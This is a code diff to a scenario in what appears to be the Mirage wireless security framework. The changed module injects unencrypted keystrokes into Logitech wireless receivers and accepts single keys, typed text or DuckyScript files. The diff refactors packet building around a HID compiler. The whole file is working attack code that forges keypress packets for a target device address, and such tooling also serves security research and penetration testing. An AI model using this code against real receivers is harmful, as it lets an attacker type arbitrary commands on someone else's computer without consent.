@@ -1,16 +1,23 @@
 from mirage.core import scenario
 from mirage.libs import io,esb,utils,wireless
-from mirage.libs.common import parsers
+from mirage.libs.common import parsers,hid
 from threading import Lock
 
 class logitech_unencrypted_keystrokes_injection(scenario.Scenario):
 	def addLogitechKeystroke(self,locale="fr",key="a",ctrl=False, alt=False, gui=False,shift=False):
+		return self.addLogitechSequence([self.compiler.compileKey(key=key,ctrl=ctrl,alt=alt,gui=gui,shift=shift)])
+
+	def addLogitechSequence(self,sequence=[]):
 		keystrokes = []
-		keystrokes.append(esb.ESBLogitechUnencryptedKeyPressPacket(address=self.target,locale=locale,key=key,ctrl=ctrl,alt=alt,gui=gui,shift=shift))
-		keystrokes.append(wireless.WaitPacket(time=12/1000.0))
-		keystrokes.append(esb.ESBLogitechKeepAlivePacket(address=self.target,timeout=1200))
-		keystrokes.append(esb.ESBLogitechUnencryptedKeyReleasePacket(address=self.target))
-		
+		for step in sequence:
+			if step[0] == "delay":
+				keystrokes += self.addLogitechDelay(duration=step[1])
+			else:
+				for report in step[1]:
+					keystrokes.append(esb.ESBLogitechUnencryptedKeyPressPacket(address=self.target,hidData=report))
+				keystrokes.append(wireless.WaitPacket(time=12/1000.0))
+				keystrokes.append(esb.ESBLogitechKeepAlivePacket(address=self.target,timeout=1200))
+				keystrokes.append(esb.ESBLogitechUnencryptedKeyReleasePacket(address=self.target))
 		return keystrokes
 
 	def addLogitechDelay(self,duration=1000):
@@ -22,10 +29,7 @@ class logitech_unencrypted_keystrokes_injection(scenario.Scenario):
 		return keystrokes
 
 	def addLogitechText(self,string="hello world !",locale="fr"):
-		keystrokes = []
-		for letter in string:
-			keystrokes += self.addLogitechKeystroke(key=letter,locale=locale)
-		return keystrokes
+		return self.addLogitechSequence(self.compiler.compileText(string))
 
 	def startLogitechInjection(self,timeout=1200):
 		keystrokes=[esb.ESBLogitechSetTimeoutPacket(address=self.target,timeout=1200)]
@@ -43,6 +47,7 @@ class logitech_unencrypted_keystrokes_injection(scenario.Scenario):
 		self.receiver = self.module.receiver
 		self.target = utils.addressArg(self.module.target)
 		self.lock = Lock()
+		self.compiler = hid.HIDCompiler(locale="fr",protocol="logitech")
 
 		io.info("Following mode disabled by the scenario.")
 		self.module.stopFollowing()
@@ -66,12 +71,7 @@ class logitech_unencrypted_keystrokes_injection(scenario.Scenario):
 			self.mode = "duckyscript"
 			io.info("Duckyscript injection: "+self.module.args["DUCKYSCRIPT"])
 			parser = parsers.DuckyScriptParser(filename=self.args["DUCKYSCRIPT"])
-			attackStream = parser.generatePackets(
-				textFunction=self.addLogitechText,
-				initFunction=self.startLogitechInjection,
-				keyFunction=self.addLogitechKeystroke,
-				sleepFunction=self.addLogitechDelay
-				)
+			attackStream = self.startLogitechInjection() + self.addLogitechSequence(self.compiler.compileScript(parser))
 		else:
 			io.fail("You must provide one of the following parameters:\n\tINTERACTIVE : live keystroke injection\n\tTEXT : simple text injection\n\tDUCKYSCRIPT : duckyscript injection")
 			self.module.stopScenario()